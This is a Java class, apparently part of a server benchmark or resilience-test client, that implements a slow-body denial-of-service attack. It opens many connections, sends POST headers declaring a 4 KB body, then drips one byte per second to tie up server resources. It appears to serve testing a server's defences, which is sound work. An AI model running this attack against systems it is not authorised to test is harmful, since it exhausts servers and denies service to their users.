package io.duplex.bench.client;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * W4 attack (b): {@code count} connections, each a {@code POST /call} that passes the checks made
 * before the body (origin, content type) and declares a 4 KB body, of which it sends a few bytes
 * and then one more byte per second: never enough to finish, always enough not to be idle.
 */
final class SlowBodies implements AutoCloseable {
  private static final int DECLARED = 4096;

  private final String host;
  private final int port;
  private final String base;
  private final int count;
  private final List<Socket> sockets = new ArrayList<>();
  private volatile boolean running = true;
  private Thread dripper;
  volatile int open;
  volatile int lost;

  SlowBodies(String host, int port, String base, int count) {
    this.host = host;
    this.port = port;
    this.base = base;
    this.count = count;
  }

  /** Opens every connection and sends its head and first bytes; returns when all are sent. */
  void start() throws IOException {
    byte[] head = ("POST " + base + "/call HTTP/1.1\r\n"
        + "Host: " + host + ":" + port + "\r\n"
        + "Origin: http://" + host + ":" + port + "\r\n"
        + "Content-Type: application/json\r\n"
        + "Content-Length: " + DECLARED + "\r\n\r\n"
        + "{\"v\":1,\"calls\":[").getBytes(StandardCharsets.ISO_8859_1);
    for (int i = 0; i < count; i++) {
      Socket socket = new Socket();
      socket.connect(new InetSocketAddress(host, port), 15_000);
      socket.getOutputStream().write(head);
      socket.getOutputStream().flush();
      sockets.add(socket);
    }
    open = sockets.size();
    dripper = new Thread(this::drip, "w4-slow-bodies");
    dripper.setDaemon(true);
    dripper.start();
  }

  private void drip() {
    int sent = 0;
    while (running && sent < DECLARED - 32) {
      try {
        Thread.sleep(1_000);
      } catch (InterruptedException e) {
        return;
      }
      int stillOpen = 0;
      int gone = 0;
      for (Socket socket : sockets) {
        try {
          socket.getOutputStream().write(' ');
          socket.getOutputStream().flush();
          stillOpen++;
        } catch (IOException e) {
          gone++;
        }
      }
      open = stillOpen;
      lost = gone;
      sent++;
    }
  }

  @Override
  public void close() throws InterruptedException {
    running = false;
    if (dripper != null) {
      dripper.interrupt();
      dripper.join(10_000);
    }
    for (Socket socket : sockets) {
      try {
        socket.close();
      } catch (IOException e) {
        // closing anyway
      }
    }
  }
}
